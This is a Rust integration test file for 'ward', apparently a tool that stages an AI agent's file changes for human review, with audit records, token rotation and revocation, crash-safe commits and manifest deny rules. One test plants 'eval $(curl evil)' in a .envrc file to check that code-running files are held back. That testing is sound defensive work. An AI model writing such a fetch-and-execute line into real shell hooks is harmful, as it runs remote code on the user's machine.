//! `ward review`: the staged-edit workflow end to end through the real binary, and commits
//! killed part-way.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a test fails by panicking

mod common;

use common::{hand_to, test_user, text, ward_as, Env, Person};
use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

/// Relative path -> content (files) or "dir".
fn tree(dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            let rel = p.strip_prefix(dir).unwrap().display().to_string();
            if e.file_type().unwrap().is_dir() {
                out.insert(rel, "dir".into());
                stack.push(p);
            } else {
                out.insert(rel, std::fs::read_to_string(&p).unwrap_or_default());
            }
        }
    }
    out
}

#[test]
fn edit_create_delete_rename_then_approve_some_and_discard_the_rest() {
    let e = Env::new();
    for (f, t) in [
        ("keep.txt", "keep\n"),
        ("edit-approved.txt", "v1\n"),
        ("edit-discarded.txt", "v1\n"),
        ("delete-approved.txt", "bye\n"),
        ("delete-discarded.txt", "stay\n"),
        ("rename-me.txt", "moving content\n"),
    ] {
        std::fs::write(e.p("proj").join(f), t).unwrap();
    }
    let before = tree(&e.p("proj"));
    let o = e.ward(&[
        "run",
        "--",
        "/bin/sh",
        "-c",
        "echo v2 > edit-approved.txt && echo v2 > edit-discarded.txt && \
         rm delete-approved.txt delete-discarded.txt && mv rename-me.txt renamed.txt && \
         mkdir -p new/dir && echo fresh > new/dir/file.txt && echo other > new-discarded.txt",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(
        tree(&e.p("proj")),
        before,
        "the real folder changed before review"
    );

    let list = e.ward(&["review", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    let kinds: Vec<String> = v["stages"][0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} {}",
                c["kind"].as_str().unwrap(),
                c["path"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        kinds,
        [
            "deleted delete-approved.txt",
            "deleted delete-discarded.txt",
            "modified edit-approved.txt",
            "modified edit-discarded.txt",
            "added new",
            "added new/dir",
            "added new/dir/file.txt",
            "added new-discarded.txt",
            "renamed renamed.txt",
        ]
    );

    let a = e.ward(&[
        "review",
        "--apply",
        "edit-approved.txt",
        "delete-approved.txt",
        "renamed.txt",
        "new",
    ]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a));
    let d = e.ward(&["review", "--discard-all"]);
    assert_eq!(d.status.code(), Some(0), "{}", text(&d));

    let mut expected = before.clone();
    expected.insert("edit-approved.txt".into(), "v2\n".into());
    expected.remove("delete-approved.txt");
    expected.remove("rename-me.txt");
    expected.insert("renamed.txt".into(), "moving content\n".into());
    expected.insert("new".into(), "dir".into());
    expected.insert("new/dir".into(), "dir".into());
    expected.insert("new/dir/file.txt".into(), "fresh\n".into());
    assert_eq!(tree(&e.p("proj")), expected);
    assert_eq!(e.ward(&["review"]).status.code(), Some(1), "nothing left");

    // The audit log holds each step: the session, each approval with its hashes, the outcome,
    // the discard.
    let recs = e.records();
    let approved: Vec<String> = recs
        .iter()
        .filter(|r| r["kind"] == "review.approve")
        .map(|r| {
            r["resource"]
                .as_str()
                .unwrap()
                .rsplit('/')
                .next()
                .unwrap()
                .to_string()
        })
        .collect();
    for f in [
        "edit-approved.txt",
        "delete-approved.txt",
        "renamed.txt",
        "file.txt",
    ] {
        assert!(
            approved.iter().any(|a| a == f),
            "{f} not recorded: {approved:?}"
        );
    }
    let edit = recs
        .iter()
        .find(|r| {
            r["kind"] == "review.approve"
                && r["resource"]
                    .as_str()
                    .unwrap()
                    .ends_with("edit-approved.txt")
        })
        .unwrap();
    assert_eq!(edit["detail"]["change"], "modified");
    assert_eq!(edit["detail"]["before_sha256"].as_str().unwrap().len(), 64);
    assert_ne!(
        edit["detail"]["before_sha256"],
        edit["detail"]["after_sha256"]
    );
    assert!(edit["decision"]["by"]
        .as_str()
        .unwrap()
        .starts_with("person:"));
    for k in [
        "session.start",
        "session.exit",
        "review.applied",
        "review.discard",
    ] {
        assert!(recs.iter().any(|r| r["kind"] == k), "no {k} record");
    }
    let v = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["audit", "verify"])
        .env("XDG_STATE_HOME", e.p("state"))
        .env("XDG_CONFIG_HOME", e.p("config"))
        .output()
        .unwrap();
    assert_eq!(v.status.code(), Some(0), "{}", text(&v));
}

#[test]
fn a_commit_killed_at_many_points_leaves_old_or_new_files_and_is_finished_next_time() {
    let e = Env::new();
    let n = 1000;
    for i in 0..n {
        std::fs::write(e.p("proj").join(format!("f{i}.txt")), format!("old {i}\n")).unwrap();
    }
    let o = e.ward(&[
        "run",
        "--",
        "/bin/sh",
        "-c",
        "i=0; while [ $i -lt 1000 ]; do echo \"new $i\" > f$i.txt; i=$((i+1)); done",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let check = |when: &str| {
        let mut new = 0;
        for i in 0..n {
            let got = std::fs::read_to_string(e.p("proj").join(format!("f{i}.txt")))
                .unwrap_or_else(|err| panic!("f{i}.txt missing {when}: {err}"));
            if got == format!("new {i}\n") {
                new += 1;
            } else {
                assert_eq!(got, format!("old {i}\n"), "f{i}.txt is partial {when}");
            }
        }
        new
    };
    // Snapshots to start each kill from the same point: the real folder and the stage.
    let cp = |from: &Path, to: &Path| {
        let _ = std::fs::remove_dir_all(to);
        let st = Command::new("cp")
            .arg("-a")
            .arg(from)
            .arg(to)
            .status()
            .unwrap();
        assert!(st.success());
    };
    cp(&e.p("proj"), &e.p("proj.orig"));
    cp(&e.p("state/ward/sessions"), &e.p("sessions.orig"));
    let round = std::cell::Cell::new(0u32);
    let restore = || {
        cp(&e.p("proj.orig"), &e.p("proj"));
        cp(&e.p("sessions.orig"), &e.p("state/ward/sessions"));
        // Each round is a session of its own, as if it had just run: a new id, a start after
        // the restored real files, and a fresh token (the last round's was rotated and, once
        // nothing was left, revoked with its session).
        round.set(round.get() + 1);
        let id = format!("{:016x}", 0xc0ffee00 + u64::from(round.get()));
        let sessions = e.p("state/ward/sessions");
        let old = std::fs::read_dir(&sessions)
            .unwrap()
            .flatten()
            .next()
            .unwrap()
            .path();
        std::fs::rename(&old, sessions.join(&id)).unwrap();
        let f = sessions.join(&id).join("stage.json");
        let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
        let o = e.ward(&[
            "token",
            "issue",
            "--folder",
            e.p("proj").to_str().unwrap(),
            "--session",
            &id,
            "--ttl",
            "1h",
            "--json",
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let t: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let old_id = old.file_name().unwrap().to_string_lossy().into_owned();
        let upper = v["stages"][0]["upper"]
            .as_str()
            .unwrap()
            .replace(&old_id, &id);
        v["stages"][0]["upper"] = serde_json::json!(upper);
        v["session"] = serde_json::json!(id);
        v["tokens"][0] = t["token"].clone();
        v["started_ns"] = serde_json::json!(std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos() as u64);
        std::fs::write(&f, serde_json::to_vec(&v).unwrap()).unwrap();
    };
    // How long one whole commit takes here, to spread the kills over it.
    restore();
    let t = std::time::Instant::now();
    let full = e.ward(&["review", "--apply-all"]);
    let whole = t.elapsed();
    assert_eq!(full.status.code(), Some(0), "{}", text(&full));
    assert_eq!(check("after an uninterrupted commit"), n);
    // Kill points: a few while the new content is being written (nothing renamed yet), then
    // one as soon as each watched file turns new during the renames (the rest still old).
    let mut names: Vec<String> = (0..n).map(|i| format!("f{i}.txt")).collect();
    names.sort(); // the commit's order
    let mut points: Vec<(String, Option<usize>)> = [1u32, 3, 5, 7]
        .iter()
        .map(|k| (format!("{k}/16 of a commit's time"), None))
        .collect();
    for pos in [0usize, 250, 500, 750, 990] {
        points.push((format!("when {} (#{pos}) turns new", names[pos]), Some(pos)));
    }
    let mut interrupted = 0;
    for (k, (label, watch)) in points.iter().enumerate() {
        restore();
        assert_eq!(check("after restoring"), 0);
        let mut child = e.command(&["review", "--apply-all"]).spawn().unwrap();
        match watch {
            None => std::thread::sleep(whole * (2 * k as u32 + 1) / 16),
            Some(pos) => {
                let i: usize = names[*pos][1..names[*pos].len() - 4].parse().unwrap();
                let f = e.p("proj").join(&names[*pos]);
                let t = std::time::Instant::now();
                while std::fs::read_to_string(&f).unwrap_or_default() != format!("new {i}\n")
                    && t.elapsed() < whole * 4
                {
                    std::hint::spin_loop();
                }
            }
        }
        let _ = child.kill();
        let status = child.wait().unwrap();
        let new = check(&format!("after SIGKILL {label}"));
        if status.code().is_none() && new > 0 && new < n {
            interrupted += 1;
        }
        // The next review finishes the batch the kill cut short (and applies what is left).
        let r = e.ward(&["review", "--apply-all"]);
        assert!(matches!(r.status.code(), Some(0) | Some(1)), "{}", text(&r));
        assert_eq!(
            check(&format!("after the review that followed the kill {label}")),
            n,
            "{}",
            text(&r)
        );
        assert_eq!(
            e.ward(&["review"]).status.code(),
            Some(1),
            "nothing left after the kill {label}"
        );
        let leftovers: Vec<String> = std::fs::read_dir(e.p("proj"))
            .unwrap()
            .flatten()
            .map(|d| d.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".ward-apply"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    }
    let points = points.len();
    eprintln!(
        "one commit of {n} files: {whole:?}; kills that left it half-way (some files new, some \
         old): {interrupted} of {points}"
    );
}

#[test]
fn a_file_changed_by_the_user_during_the_session_is_a_conflict() {
    let e = Env::new();
    std::fs::write(e.p("proj/shared.txt"), "v1\n").unwrap();
    // The agent edits, says so, and waits for a line on its stdin before it ends.
    let mut run = e
        .command(&[
            "run",
            "--",
            "/bin/sh",
            "-c",
            "echo agent > shared.txt && echo edited && read line",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(run.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut out, &mut line).unwrap();
    assert_eq!(line, "edited\n");
    // The user edits the same file meanwhile; then the agent is let go.
    std::fs::write(e.p("proj/shared.txt"), "the user's\n").unwrap();
    std::io::Write::write_all(run.stdin.as_mut().unwrap(), b"done\n").unwrap();
    run.wait().unwrap();
    let a = e.ward(&["review", "--apply-all"]);
    assert_eq!(a.status.code(), Some(1), "{}", text(&a));
    assert!(text(&a).contains("conflict  shared.txt"), "{}", text(&a));
    assert_eq!(
        std::fs::read_to_string(e.p("proj/shared.txt")).unwrap(),
        "the user's\n"
    );
    assert!(e
        .records()
        .iter()
        .any(|r| r["kind"] == "review.held" && r["decision"]["by"] == "builtin:review.conflict"));
}

/// Run `cmd` with a pseudo-terminal as its controlling terminal (util-linux `script`), typing
/// `input` into it.
/// `ward ARGS` on a terminal of the test's (the person's), colours off.
fn on_a_terminal(e: &Env, args: &[&str]) -> Person {
    let mut c = e.command(args);
    c.env("NO_COLOR", "1");
    Person::spawn(c)
}

#[test]
fn on_a_terminal_ward_run_asks_and_each_answer_is_recorded() {
    let e = Env::new();
    std::fs::write(e.p("proj/README"), "hello\n").unwrap();
    // Review each: apply the new file, discard the edit. Each answer is typed once its
    // question is on the screen: keys typed before a question do not answer it.
    let script = "echo edited >> README; echo new > NEW";
    let mut p = on_a_terminal(&e, &["run", "--", "/bin/sh", "-c", script]);
    p.answer(1, b"r\r");
    p.answer(2, b"y\r");
    p.answer(3, b"n\r");
    let (code, screen) = p.finish(60);
    let out = String::from_utf8_lossy(&screen).into_owned();
    assert_eq!(code, Some(0), "{out}");
    assert!(
        out.contains("What should happen to these changes?"),
        "{out}"
    );
    assert!(out.contains("+edited"), "the diff was shown: {out}");
    assert_eq!(std::fs::read_to_string(e.p("proj/NEW")).unwrap(), "new\n");
    assert_eq!(
        std::fs::read_to_string(e.p("proj/README")).unwrap(),
        "hello\n"
    );
    assert_eq!(e.ward(&["review"]).status.code(), Some(1), "nothing left");
    let recs = e.records();
    let approve = recs.iter().find(|r| r["kind"] == "review.approve").unwrap();
    assert!(approve["resource"].as_str().unwrap().ends_with("/NEW"));
    assert_eq!(
        approve["decision"]["reason"],
        "approved in review (terminal)"
    );
    let discard = recs.iter().find(|r| r["kind"] == "review.discard").unwrap();
    assert!(discard["resource"].as_str().unwrap().ends_with("/README"));

    // An empty answer keeps everything for later; so does no terminal at all.
    let mut p = on_a_terminal(&e, &["run", "--", "/bin/sh", "-c", "echo again >> README"]);
    p.answer(1, b"\r");
    let (_, screen) = p.finish(60);
    assert!(String::from_utf8_lossy(&screen).contains("Kept"));
    assert_eq!(
        std::fs::read_to_string(e.p("proj/README")).unwrap(),
        "hello\n"
    );
    assert!(e.records().iter().any(|r| r["kind"] == "review.keep"));
    // Later, `ward review` on a terminal asks again: apply all this time.
    let mut p = on_a_terminal(&e, &["review"]);
    p.answer(1, b"a\r");
    let (_, screen) = p.finish(60);
    assert!(String::from_utf8_lossy(&screen).contains("Applied"));
    assert_eq!(
        std::fs::read_to_string(e.p("proj/README")).unwrap(),
        "hello\nagain\n"
    );
}

#[test]
fn keys_typed_before_the_review_question_do_not_answer_it() {
    // The agent's session ends; keys the person (or anything else) typed ahead are not an
    // answer: "apply all" typed before the question appeared applies nothing.
    let e = Env::new();
    std::fs::write(e.p("proj/README"), "hello\n").unwrap();
    let mut c = e.command(&[
        "run",
        "--",
        "/bin/sh",
        "-c",
        "sleep 1; echo edited >> README",
    ]);
    c.env("NO_COLOR", "1").env("WARD_ASK_TIMEOUT", "3");
    let mut p = Person::spawn(c);
    p.type_keys(b"a\r");
    let at = p
        .wait_for("(a letter, then Enter) > ", 0, 30)
        .expect("no question");
    let (_, screen) = p.finish(60);
    let out = String::from_utf8_lossy(&screen).into_owned();
    assert!(out[at..].contains("no answer in time"), "{out}");
    assert_eq!(
        std::fs::read_to_string(e.p("proj/README")).unwrap(),
        "hello\n",
        "typeahead applied the changes"
    );
    assert!(e
        .records()
        .iter()
        .any(|r| r["kind"] == "review.keep" && r["detail"]["why"] == "no answer in time"));
    // Keys already waiting on the person's terminal when `ward review` asks are flushed.
    let mut c = e.command(&["review"]);
    c.env("NO_COLOR", "1").env("WARD_ASK_TIMEOUT", "3");
    let mut p = Person::spawn(c);
    p.type_keys(b"a\r");
    let (_, screen) = p.finish(60);
    let out = String::from_utf8_lossy(&screen).into_owned();
    assert!(out.contains("no answer in time"), "{out}");
    assert_eq!(
        std::fs::read_to_string(e.p("proj/README")).unwrap(),
        "hello\n",
        "keys typed ahead applied the changes"
    );
}

#[test]
fn a_revoked_token_makes_review_refuse_to_apply_and_commits_rotate_it() {
    let e = Env::new();
    std::fs::write(e.p("proj/a.txt"), "old\n").unwrap();
    std::fs::write(e.p("proj/b.txt"), "old\n").unwrap();
    let o = e.ward(&[
        "run",
        "--",
        "/bin/sh",
        "-c",
        "echo new > a.txt; echo new > b.txt",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let start = e
        .records()
        .into_iter()
        .find(|r| r["kind"] == "session.start")
        .unwrap();
    let session = start["session"].as_str().unwrap().to_string();
    let first_id = start["detail"]["tokens"][0].as_str().unwrap().to_string();
    assert_eq!(first_id.len(), 128);

    // Applying one change rotates the token: the approval names the old one, which is
    // then revoked; the next generation is in force.
    let a = e.ward(&["review", "--apply", "a.txt"]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a));
    let recs = e.records();
    let approve = recs.iter().find(|r| r["kind"] == "review.approve").unwrap();
    assert_eq!(approve["token"], first_id.as_str());
    let rot = recs.iter().find(|r| r["kind"] == "token.rotate").unwrap();
    assert_eq!(rot["detail"]["revoked"], first_id.as_str());
    assert_eq!(rot["detail"]["generation"], 2);

    // Revoking the session's tokens stops any further commit, with the reason.
    let r = e.ward(&["token", "revoke", "--session", &session]);
    assert_eq!(r.status.code(), Some(0), "{}", text(&r));
    let a = e.ward(&["review", "--apply-all"]);
    assert_eq!(a.status.code(), Some(2), "{}", text(&a));
    assert!(text(&a).contains("revoked"), "{}", text(&a));
    assert_eq!(std::fs::read_to_string(e.p("proj/b.txt")).unwrap(), "old\n");
    assert!(e
        .records()
        .iter()
        .any(|r| r["kind"] == "review.refused" && r["decision"]["by"] == "builtin:token"));
    // The changes are still there to look at (or discard).
    assert!(text(&e.ward(&["review"])).contains("b.txt"));
}

#[test]
fn token_commands_issue_inspect_attenuate_and_revoke() {
    let e = Env::new();
    let proj = e.p("proj").canonicalize().unwrap();
    let o = e.ward(&[
        "token",
        "issue",
        "--folder",
        proj.to_str().unwrap(),
        "--ttl",
        "10m",
        "--json",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let token = v["token"].as_str().unwrap().to_string();
    let i = e.ward(&["token", "inspect", &token]);
    assert_eq!(i.status.code(), Some(0), "{}", text(&i));
    assert!(
        text(&i).contains(&format!("folder(\"{}/\")", proj.display())),
        "{}",
        text(&i)
    );
    assert!(text(&i).contains("right(\"write\")"), "{}", text(&i));
    let a = e.ward(&["token", "attenuate", &token, "--read-only"]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a));
    let narrowed = String::from_utf8(a.stdout.clone()).unwrap();
    let i = e.ward(&["token", "inspect", narrowed.trim(), "--json"]);
    let iv: serde_json::Value = serde_json::from_slice(&i.stdout).unwrap();
    assert_eq!(iv["blocks"].as_array().unwrap().len(), 2);
    assert!(iv["blocks"][1]
        .as_str()
        .unwrap()
        .contains("operation(\"read\")"));
    let r = e.ward(&["token", "revoke", &token]);
    assert_eq!(r.status.code(), Some(0), "{}", text(&r));
    // Revoking the original revokes what was derived from it.
    let i = e.ward(&["token", "inspect", narrowed.trim()]);
    assert_eq!(i.status.code(), Some(1));
    assert!(text(&i).contains("REVOKED"));
    let bad = e.ward(&["token", "issue", "--folder", ".", "--ttl", "soon"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad).contains("not a duration"), "{}", text(&bad));
    let recs = e.records();
    assert!(recs.iter().any(|r| r["kind"] == "token.issue"));
    assert!(recs.iter().any(|r| r["kind"] == "token.revoke"));
}

/// Folders nested past PATH_MAX (4096 bytes), made one level at a time as an agent can.
const DEEP: &str = "import os\nn = 'd' * 200\nfor i in range(30):\n  os.mkdir(n); os.chdir(n)\nopen('f', 'w').write('deep\\n')\n";

#[test]
fn a_stage_deeper_than_path_max_is_reviewed_and_applied() {
    let e = Env::new();
    let o = e.ward(&["run", "--", "/usr/bin/python3", "-c", DEEP]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let l = e.ward(&["review", "--json"]);
    assert_eq!(l.status.code(), Some(0), "{}", text(&l));
    let v: serde_json::Value = serde_json::from_slice(&l.stdout).unwrap();
    let changes = v["stages"][0]["changes"].as_array().unwrap();
    assert_eq!(changes.len(), 31, "30 folders and the file");
    let a = e.ward(&["review", "--apply-all"]);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a));
    let mut p = std::path::PathBuf::from("proj");
    for _ in 0..30 {
        p.push("d".repeat(200));
    }
    p.push("f");
    // Read it back the way an agent made it: a level at a time.
    let mut dir = std::fs::File::open(e.p("proj")).unwrap();
    for c in p.components().skip(1) {
        use std::os::fd::{AsRawFd, FromRawFd};
        let name = std::ffi::CString::new(c.as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: openat with a valid C string; the result is owned at once.
        let fd = unsafe { libc::openat(dir.as_raw_fd(), name.as_ptr(), libc::O_RDONLY) };
        assert!(fd >= 0, "{}", std::io::Error::last_os_error());
        // SAFETY: just opened.
        dir = unsafe { std::fs::File::from_raw_fd(fd) };
    }
    let mut s = String::new();
    std::io::Read::read_to_string(&mut dir, &mut s).unwrap();
    assert_eq!(s, "deep\n");
}

#[test]
fn as_a_user_deep_and_unreadable_stages_are_listed_and_discarded_leaving_nothing() {
    let Some((uid, gid)) = test_user("this test") else {
        return;
    };
    let e = Env::new();
    let ward = hand_to(e.dir.path(), uid, gid);
    let run = |args: &[&str]| {
        ward_as(&ward, e.dir.path(), uid, gid, args)
            .output()
            .unwrap()
    };
    let script = format!(
        "{DEEP}os.chdir('{}')\nos.mkdir('locked'); open('locked/in.txt', 'w').write('x\\n'); os.chmod('locked', 0)\nopen('secret.txt', 'w').write('s\\n'); os.chmod('secret.txt', 0)\n",
        e.p("proj").display()
    );
    let o = run(&["run", "--", "/usr/bin/python3", "-c", &script]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let l = run(&["review", "--json"]);
    assert_eq!(l.status.code(), Some(0), "{}", text(&l));
    let listed = String::from_utf8_lossy(&l.stdout).into_owned();
    for name in ["locked/in.txt", "secret.txt", "/f\""] {
        assert!(listed.contains(name), "{name} not listed: {listed}");
    }
    let d = run(&["review", "--discard-all"]);
    assert_eq!(d.status.code(), Some(0), "{}", text(&d));
    let left: Vec<_> = std::fs::read_dir(e.p("state/ward/sessions"))
        .map(|r| r.flatten().map(|x| x.path()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "left behind: {left:?}");
}

#[test]
fn at_the_prompt_what_runs_code_is_applied_only_one_by_one_knowingly() {
    let e = Env::new();
    let script = "echo 'eval $(curl evil)' > .envrc; echo notes > notes.txt";
    // "Apply all" leaves the .envrc staged.
    let mut p = on_a_terminal(&e, &["run", "--", "/bin/sh", "-c", script]);
    let at = p.answer(1, b"a\r");
    let (_, screen) = p.finish(60);
    let out = String::from_utf8_lossy(&screen).into_owned();
    assert!(out.contains("RUNS CODE"), "{out}");
    assert!(out[at..].contains("held, runs code: .envrc"), "{out}");
    assert!(e.p("proj/notes.txt").exists());
    assert!(!e.p("proj/.envrc").exists(), "applied in bulk");
    // Review each: the flagged change asks with its reason; "!" applies it, on record.
    let mut p = on_a_terminal(&e, &["review"]);
    p.answer(1, b"r\r");
    let at = p.answer(2, b"!\r");
    let (_, screen) = p.finish(60);
    let out = String::from_utf8_lossy(&screen).into_owned();
    assert!(
        out[..at].contains("This RUNS CODE on this machine"),
        "{out}"
    );
    assert!(e.p("proj/.envrc").exists(), "{out}");
    let approve = e
        .records()
        .into_iter()
        .find(|r| {
            r["kind"] == "review.approve"
                && r["resource"].as_str().unwrap_or("").ends_with("/.envrc")
        })
        .expect("on record");
    assert_eq!(approve["detail"]["acknowledged"], true, "{approve}");
}

/// The manifest's `file.write` and `file.delete` rules judge every staged change at review:
/// a deny is never applied (however it is named), an ask only when named on its own with the
/// reason acknowledged; each is on record under the rule.
#[test]
fn file_rules_hold_at_review() {
    let e = Env::new();
    std::fs::write(e.p("proj/keep.md"), "keep\n").unwrap();
    let proj = e.p("proj").canonicalize().unwrap();
    std::fs::write(
        e.p("proj/ward.toml"),
        format!(
            "name = \"t\"\n\
             [[files]]\npath = \"{p}\"\n\
             [[rules]]\naction = \"file.write\"\neffect = \"deny\"\nresource = \"{p}/secret.txt\"\nreason = \"no secrets here\"\n\
             [[rules]]\naction = \"file.write\"\neffect = \"ask\"\nresource = \"{p}/*.lock\"\n\
             [[rules]]\naction = \"file.delete\"\neffect = \"deny\"\nresource = \"{p}/keep.md\"\n",
            p = proj.display()
        ),
    )
    .unwrap();
    let run = e.ward(&[
        "run",
        "--review",
        "keep",
        "--",
        "/bin/sh",
        "-c",
        "echo s > secret.txt; echo l > a.lock; echo ok > ok.txt; rm keep.md",
    ]);
    assert_eq!(run.status.code(), Some(0), "{}", text(&run));
    let a = e.ward(&["review", "--apply-all"]);
    let out = text(&a);
    assert!(e.p("proj/ok.txt").exists(), "{out}");
    assert!(
        !e.p("proj/secret.txt").exists(),
        "a denied write was applied: {out}"
    );
    assert!(
        !e.p("proj/a.lock").exists(),
        "an ask was applied in bulk: {out}"
    );
    assert!(
        e.p("proj/keep.md").exists(),
        "a denied delete was applied: {out}"
    );
    // Named on its own and acknowledged: the ask goes, the deny still does not.
    let b = e.ward(&["review", "--apply", "a.lock", "secret.txt", "--acknowledge"]);
    let out = text(&b);
    assert!(e.p("proj/a.lock").exists(), "{out}");
    assert!(!e.p("proj/secret.txt").exists(), "{out}");
    let recs = e.records();
    let held = |name: &str| {
        recs.iter()
            .find(|r| {
                r["kind"] == "review.held" && r["resource"].as_str().unwrap_or("").ends_with(name)
            })
            .unwrap_or_else(|| panic!("no review.held for {name}: {recs:?}"))
            .clone()
    };
    let s = held("/secret.txt");
    assert_eq!(s["decision"]["result"], "deny");
    assert!(
        s["decision"]["by"]
            .as_str()
            .unwrap()
            .ends_with("ward.toml:4:1"),
        "{s}"
    );
    assert!(s["decision"]["reason"]
        .as_str()
        .unwrap()
        .contains("no secrets here"));
    assert!(held("/keep.md")["decision"]["by"]
        .as_str()
        .unwrap()
        .ends_with("ward.toml:13:1"));
    let flagged = recs
        .iter()
        .find(|r| {
            r["kind"] == "review.flagged"
                && r["resource"].as_str().unwrap_or("").ends_with("/a.lock")
        })
        .expect("the ask is on record");
    assert!(
        flagged["decision"]["by"]
            .as_str()
            .unwrap()
            .ends_with("ward.toml:9:1"),
        "{flagged}"
    );
    let approve = recs
        .iter()
        .find(|r| {
            r["kind"] == "review.approve"
                && r["resource"].as_str().unwrap_or("").ends_with("/a.lock")
        })
        .expect("the approval is on record");
    assert_eq!(approve["detail"]["acknowledged"], true);
    assert_eq!(
        approve["detail"]["flags"][0]["code"], "manifest-ask",
        "{approve}"
    );
}
